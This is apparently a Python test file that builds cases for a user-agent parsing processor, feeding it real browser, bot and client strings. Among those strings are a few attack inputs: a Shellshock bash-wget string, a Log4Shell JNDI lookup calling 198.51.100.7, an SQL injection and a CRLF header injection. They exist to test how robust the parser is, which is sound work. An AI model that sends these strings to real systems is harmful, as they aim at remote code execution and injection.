"""Cases of ``user_agent``: what browsers, telephones, robots and attackers send."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.parity.case import Case, Failed
from tests.parity.options import ES, PAGES

PAGE = PAGES[ES].format("user-agent")
FOLDER = str(Path(__file__).parents[1] / "data")

CHROME = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_5) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36"
AGENTS = (
    CHROME,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; .NET CLR 2.0.50727)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 9_3_2 like Mac OS X) AppleWebKit/601.1.46 (KHTML, like Gecko) Version/9.0 Mobile/13F69 Safari/601.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.6668.70 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 7.0; SM-G930V Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0.3071.125 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 5.0.2; SM-T530 Build/LRX22G) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/3.2 Chrome/38.0.2125.102 Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; Galaxy S II Build/GRJ22) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    "Mozilla/5.0 (Linux; Android 9; HUAWEI-TAG-L21 Build/X) AppleWebKit/537.36 Chrome/70.0.3538.110 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 2.3.4; en-us; HTC Desire HD A9191 Build/GRJ22) AppleWebKit/533.1 Version/4.0 Mobile Safari/533.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.109 Safari/537.36 OPR/106.0.0.0",
    "Opera/9.80 (Windows NT 6.1; U; es-ES) Presto/2.9.181 Version/12.00",
    "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:15.0) Gecko/20100101 Firefox/15.0.1",
    "Mozilla/5.0 (X11; FreeBSD amd64; rv:109.0) Gecko/20100101 Firefox/118.0",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537",
    "Mozilla/5.0 (Mobile; rv:26.0) Gecko/26.0 Firefox/26.0",
    "Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+",
    "Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko)",
    "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/601.6 (KHTML, like Gecko) NF/4.0.0.5.10 NintendoBrowser/5.1.0.13343",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 2.4.0) AppleWebkit/538.1 (KHTML, like Gecko) SamsungBrowser/1.1 TV Safari/538.1",
    "Mozilla/5.0 (Linux; Android 5.1.1; KFAUWI Build/LVY48F) AppleWebKit/537.36 (KHTML, like Gecko) Silk/60.3.1 like Chrome/60.0.3112.116 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.96 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Baiduspider+(+http://www.baidu.com/search/spider.htm)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    "curl/7.68.0",
    "Wget/1.20.3 (linux-gnu)",
    "python-requests/2.31.0",
    "Python-urllib/3.11",
    "Go-http-client/1.1",
    "okhttp/4.9.3",
    "Java/17.0.2",
    "Apache-HttpClient/4.5.13 (Java/11.0.16)",
    "PostmanRuntime/7.36.1",
    "kube-probe/1.28",
    "ELB-HealthChecker/2.0",
    "Prometheus/2.48.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.29.149 Chrome/102.0.5005.167 Electron/19.0.17 Safari/537.36",
    "Slack_SSB/4.1.2",
    "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.6045.105 Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 11; Redmi Note 8 Build/RKQ1.201004.002)",
    "MyApp/1.2.3 CFNetwork/1408.0.4 Darwin/22.5.0",
    "AppleCoreMedia/1.0.0.20G75 (iPhone; U; CPU OS 16_6 like Mac OS X; de_de)",
    "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/21.0 Chrome/110.0.5481.154 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 10; zh-cn; MI 8 Build/QKQ1.190828.002) AppleWebKit/537.36 XiaoMi/MiuiBrowser/11.9.3",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_2 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone11,8;FBAV/245.0.0.61.116]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_2 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Instagram 110.0.0.16.119",
    "Thunderbird/102.10.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.1",
    "Mozilla/5.0 (X11; U; SunOS sun4u; en-US; rv:1.9b5) Gecko/2008032620 Firefox/3.0b5",
    "Nokia6100/1.0 (04.01) Profile/MIDP-1.0 Configuration/CLDC-1.0",
    "BlackBerry9700/5.0.0.862 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/331 UNTRUSTED/1.0",
    "SonyEricssonK800i/R1CB Browser/NetFront/3.3 Profile/MIDP-2.0 Configuration/CLDC-1.1",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
    "() { :; }; /bin/bash -c 'wget http://198.51.100.7/x'",
    "${jndi:ldap://198.51.100.7/a}",
    "' OR 1=1 --",
    "-",
    "",
    " ",
    "x",
    "Möbius-Browser/1.0 (Ümlaut; 日本語; 😀)",
    "Mozilla/5.0\r\nX-Injected: 1 (Windows NT 10.0) Firefox/1.0",
    "Mozilla/5.0\n(Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Firefox/1.0\u2028Chrome/2.0 \x85 iPhone",
    "A" * 3000 + " Chrome/1.2.3.4",
    "; " * 200 + "Build/",
    "Watch3,4 iPhone",
    "Apple Watch3,4",
    "Android Eclair",
    "GoogleBot 2.1",
    "MSIE 7.0; Windows CE",
    "Symbian/3 Series60/5.2 NokiaN8-00/013.016",
    "HbbTV/1.1.1 (; Philips; 40HFL5010T12; Philips; 40HFL5010T12;; en) ",
)

OTHER = (None, 1, 1.5, True, [], ["x"], {}, {"a": CHROME})


def _case(option: str, options: dict[str, Any], document: dict[str, Any], **more: Any) -> Case:
    return Case(option=option, processor={"user_agent": options}, document=document, **more)


def _field() -> list[Case]:
    cases = [_case("field", {"field": "agent"}, {"agent": agent}) for agent in AGENTS]
    cases += [_case("field", {"field": "agent"}, {"agent": value}) for value in OTHER]
    cases += [
        _case("field", {"field": "agent"}, {}),
        _case("field", {"field": "http.agent"}, {"http": {"agent": CHROME}}),
        _case("field", {"field": "http.agent"}, {"http": "x"}),
        _case("field", {"field": "list.1"}, {"list": ["x", CHROME]}),
        _case("field", {"field": "list.2"}, {"list": ["x", CHROME]}),
        _case("field", {"field": "{{f}}"}, {"f": "agent", "agent": CHROME}),
        _case("field", {"field": "user_agent"}, {"user_agent": CHROME}),
        _case("field", {}, {"agent": CHROME}),
        _case("field", {"field": 1}, {"agent": CHROME}),
    ]
    return cases


def _target_field() -> list[Case]:
    targets = (
        "ua",
        "a.b.c",
        "agent",
        "agent.x",
        "list.0",
        "list.5",
        "text.x",
        "none.x",
        "user_agent",
    )
    document = {
        "agent": CHROME,
        "list": [1, 2],
        "text": "t",
        "none": None,
        "user_agent": {"old": 1},
    }
    cases = [
        _case("target_field", {"field": "agent", "target_field": name}, document)
        for name in targets
    ]
    cases += [
        _case("target_field", {"field": "agent", "target_field": "ua"}, {"agent": agent})
        for agent in AGENTS[1:14]
    ]
    cases.append(_case("target_field", {"field": "agent", "target_field": ["a"]}, document))
    return cases


def _properties() -> list[Case]:
    chosen = (
        [], ["name"], ["os"], ["device"], ["original"], ["version"], ["NAME", "Os"], ["name", "name"],
        ["name", "os", "device", "original", "version"], ["version", "device"],
    )  # fmt: skip
    cases = [
        _case("properties", {"field": "agent", "properties": list(names)}, {"agent": agent})
        for names in chosen
        for agent in (CHROME, "x", AGENTS[9])
    ]
    cases += [
        _case("properties", {"field": "agent", "properties": names}, {"agent": CHROME})
        for names in (["nope"], ["name", "browser"], "name", {"name": 1}, [""])
    ]
    older = (["major", "minor", "patch", "build"], ["os_name", "os_major", "os_minor"])
    cases += [
        _case(
            "properties",
            {"field": "agent", "properties": names},
            {"agent": CHROME},
            only="opensearch",
        )
        for names in older
    ]
    return cases


def _ecs() -> list[Case]:
    cases = [
        _case("ecs", {"field": "agent", "ecs": False}, {"agent": agent}, only="opensearch")
        for agent in AGENTS[:30]
    ]
    names = ["major", "build", "os_minor", "version", "original"]
    cases += [
        _case(
            "ecs",
            {"field": "agent", "ecs": ecs, "properties": names},
            {"agent": AGENTS[8]},
            only="opensearch",
        )
        for ecs in (True, False, "true", "false", "no", 1)
    ]
    return cases


def _ignore_missing() -> list[Case]:
    cases = []
    for flag in (True, False, "true", "false"):
        options = {"field": "agent", "ignore_missing": flag}
        documents = (
            {},
            {"agent": None},
            {"agent": CHROME},
            {"agent": 1},
            {"other": {"agent": "x"}},
        )
        cases += [_case("ignore_missing", options, document) for document in documents]
    deep = {"field": "a.b.agent", "ignore_missing": True}
    cases += [
        _case("ignore_missing", deep, document)
        for document in ({"a": 1}, {"a": {}}, {"a": {"b": []}})
    ]
    cases.append(_case("ignore_missing", {"field": "agent", "ignore_missing": "yes"}, {}))
    return cases


def _regex_file() -> list[Case]:
    default = {"field": "agent", "regex_file": "_default_"}
    cases = [_case("regex_file", default, {"agent": agent}) for agent in AGENTS[:24]]
    cases.append(_case("regex_file", default, {"agent": 7}))
    refused = "`regex_file` names a file that is not in `pipeline.user_agent.regex_directory`"
    cases.append(
        _case("regex_file", {"field": "agent", "regex_file": "mine.yml"}, {}, refused=refused)
    )
    own = {"field": "agent", "regex_file": "agents.yml"}
    by_hand: dict[str, Any] = {
        "acme-robot/12.5": {
            "name": "ACME Robot", "version": "12.5", "device": {"name": "Other"}, "original": "acme-robot/12.5",
        },
        "acme-shop on acmeos 3": {
            "name": "Shop for acme", "version": "1.2", "os": {"name": "Acme OS", "version": "3", "full": "Acme OS 3"},
            "device": {"name": "Thing of acme"}, "original": "acme-shop on acmeos 3",
        },
        CHROME: {"name": "Other", "device": {"name": "Other"}, "original": CHROME},
    }  # fmt: skip
    settings = {"user_agent_directory": FOLDER}
    cases += [
        _case(
            "regex_file", own, {"agent": agent}, oracle="manual", page=PAGE, settings=settings,
            expected={"agent": agent, "user_agent": expected},
        )
        for agent, expected in by_hand.items()
    ]  # fmt: skip
    return cases


def _extract_device_type() -> list[Case]:
    """Elasticsearch alone; the names are what the node finds, the types what its manual and its module's words say."""
    kinds = {
        CHROME: ("Desktop", "Chrome", "51.0.2704.103", "Mac OS X", "10.10.5", "Mac"),
        AGENTS[2]: ("Desktop", "Firefox", "132.0.", "Windows", "10", "Other"),
        AGENTS[3]: ("Desktop", "IE", "11.0", "Windows", "7", "Other"),
        AGENTS[9]: ("Phone", "Chrome Mobile", "129.0.6668.70", "Android", "14", "Pixel 8 Pro"),
        AGENTS[28]: ("Robot", "Googlebot", "2.1", None, None, "Spider"),
        AGENTS[37]: ("Other", "curl", "7.68.0", None, None, "Other"),
    }
    cases = []
    for agent, (kind, name, version, system, number, device) in kinds.items():
        made: dict[str, Any] = {"name": name, "version": version, "original": agent}
        made["device"] = {"name": device, "type": kind}
        if system:
            made["os"] = {"name": system, "version": number, "full": f"{system} {number}"}
        expected = {"agent": agent, "user_agent": made}
        options = {"field": "agent", "extract_device_type": True}
        cases.append(
            _case(
                "extract_device_type",
                options,
                {"agent": agent},
                oracle="manual",
                page=PAGE,
                expected=expected,
            )
        )
    for agent in AGENTS[:20]:
        options = {"field": "agent", "extract_device_type": False}
        cases.append(_case("extract_device_type", options, {"agent": agent}, oracle="rewritten"))
    failed = Failed("field [agent] is null, cannot parse user-agent.")
    options = {"field": "agent", "extract_device_type": True}
    cases.append(
        _case(
            "extract_device_type",
            options,
            {"agent": None},
            oracle="manual",
            page=PAGE,
            expected=failed,
        )
    )
    return cases


CASES = [
    *_field(), *_target_field(), *_properties(), *_ecs(), *_ignore_missing(), *_regex_file(), *_extract_device_type(),
]  # fmt: skip
